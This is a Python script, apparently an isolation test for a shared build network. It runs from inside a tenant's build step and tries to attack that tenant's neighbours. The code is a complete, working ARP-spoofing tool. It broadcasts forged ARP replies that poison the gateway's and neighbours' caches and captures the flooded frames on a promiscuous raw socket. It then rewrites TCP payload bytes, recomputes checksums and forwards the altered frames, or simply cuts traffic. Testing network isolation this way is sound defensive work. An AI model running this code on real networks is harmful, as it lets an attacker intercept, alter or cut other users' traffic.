"""What a tenant's ``RUN`` may try on its network: tell all others wrong addresses, and take what comes by.

Standard library only. Arguments: the address of the test's server, and one of these:

``change``
    Tell the gateway that each neighbour is at a made-up MAC. Frames for that go to all ports of a bridge:
    take them, change what they say, and send them on.
``cut``
    Tell the neighbours the same of the gateway, too, and send nothing on.

It goes on until the server says that it is over, and then prints what it has seen as one line of JSON.
"""

import json
import socket
import struct
import sys
import time
import urllib.request
from pathlib import Path

INTERFACE = "eth0"
MADE_UP = bytes.fromhex("02deadbeef01")
EVERYBODY = b"\xff" * 6
ARP, IPV4, ANY = 0x0806, 0x0800, 0x0003
REQUEST, REPLY = 1, 2
PROMISCUOUS = struct.pack("iHH8s", socket.if_nametoindex(INTERFACE), 1, 0, b"")
TCP = 6
PAUSE = 0.2
AT_MOST = 120.0


def network() -> tuple[bytes, list[bytes]]:
    """The gateway's address, and all addresses of the subnet."""
    rows = [line.split() for line in Path("/proc/net/route").read_text().splitlines()[1:]]
    numbers = [[int.from_bytes(bytes.fromhex(row[at])[::-1], "big") for at in (1, 2, 7)] for row in rows]
    (gateway,) = (gateway for subnet, gateway, _ in numbers if not subnet)
    ((subnet, mask),) = ((subnet, mask) for subnet, gateway, mask in numbers if not gateway)
    size = (~mask & 0xFFFFFFFF) + 1
    return struct.pack(">I", gateway), [struct.pack(">I", subnet + at) for at in range(1, size - 1)]


def arp(what: int, mac: bytes, address: bytes, asked: bytes, source: bytes) -> bytes:
    """A frame to everybody that says that an address is at a MAC, or asks for another one's."""
    said = struct.pack(">HHBBH", 1, IPV4, 6, 4, what) + mac + address + bytes(6) + asked
    return EVERYBODY + source + struct.pack(">H", ARP) + said


def checksum(data: bytes) -> int:
    """The internet's checksum (RFC 1071)."""
    total = sum(struct.unpack(f">{(len(data) + 1) // 2}H", data + bytes(len(data) % 2)))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ports(frame: bytes) -> tuple[bytes, bytes]:
    """The source's and the target's port, for TCP."""
    at = 14 + (frame[14] & 15) * 4
    return frame[at : at + 2], frame[at + 2 : at + 4]


def changed(frame: bytes, mac: bytes, source: bytes) -> bytes:
    """A frame for its true receiver, that says something else."""
    header = 14 + (frame[14] & 15) * 4
    end = 14 + int.from_bytes(frame[16:18], "big")
    said = frame[header:end].replace(b"right", b"wrong")
    if frame[23] == TCP:
        said = said[:16] + bytes(2) + said[18:]
        pseudo = frame[26:34] + struct.pack(">HH", TCP, len(said))
        said = said[:16] + struct.pack(">H", checksum(pseudo + said)) + said[18:]
    return mac + source + frame[12:header] + said


def main(url: str, how: str) -> None:
    """Forge, listen, and print."""
    gateway, addresses = network()
    mac = bytes.fromhex(Path(f"/sys/class/net/{INTERFACE}/address").read_text().strip().replace(":", ""))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as unsent:
        unsent.connect((socket.inet_ntoa(gateway), 9))
        own = socket.inet_aton(unsent.getsockname()[0])
    neighbours = [address for address in addresses if address not in (gateway, own)]
    # What is still sent to somebody who had an address here before is nobody's download.
    port = struct.pack(">H", int(url.rpartition(":")[2]))
    macs: dict[bytes, bytes] = {}
    seen = sent_on = 0
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ANY))
    raw.bind((INTERFACE, 0))
    raw.setsockopt(263, 1, PROMISCUOUS)  # SOL_PACKET, PACKET_ADD_MEMBERSHIP
    raw.settimeout(PAUSE / 4)
    end = time.monotonic() + AT_MOST
    forge_at = ask_at = 0.0
    rounds = 0
    while time.monotonic() < end:
        if time.monotonic() >= forge_at:
            for neighbour in neighbours:
                if neighbour not in macs:
                    raw.send(arp(REQUEST, mac, own, neighbour, mac))
                raw.send(arp(REPLY, MADE_UP, neighbour, gateway, mac))
                if how == "cut":
                    raw.send(arp(REPLY, MADE_UP, gateway, neighbour, mac))
            forge_at = time.monotonic() + PAUSE
            rounds += 1
        if rounds > 2 and time.monotonic() >= ask_at:
            with urllib.request.urlopen(f"{url}/forging", timeout=60) as answer:
                if answer.read() == b"over":
                    break
            ask_at = time.monotonic() + 1
        try:
            frame, (_, kind, direction, *_) = raw.recvfrom(65535)
        except TimeoutError:
            continue
        if direction == socket.PACKET_OUTGOING:
            continue
        if kind == ARP and frame[20:22] == struct.pack(">H", REPLY) and frame[28:32] != gateway:
            macs[frame[28:32]] = frame[22:28]
        elif kind == IPV4 and own not in (frame[26:30], frame[30:34]) and port in ports(frame):
            seen += 1
            if how == "change" and frame[:6] == MADE_UP and frame[30:34] in macs:
                raw.send(changed(frame, macs[frame[30:34]], mac))
                sent_on += 1
    print(json.dumps({"neighbours": len(macs), "seen": seen, "sent_on": sent_on}), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
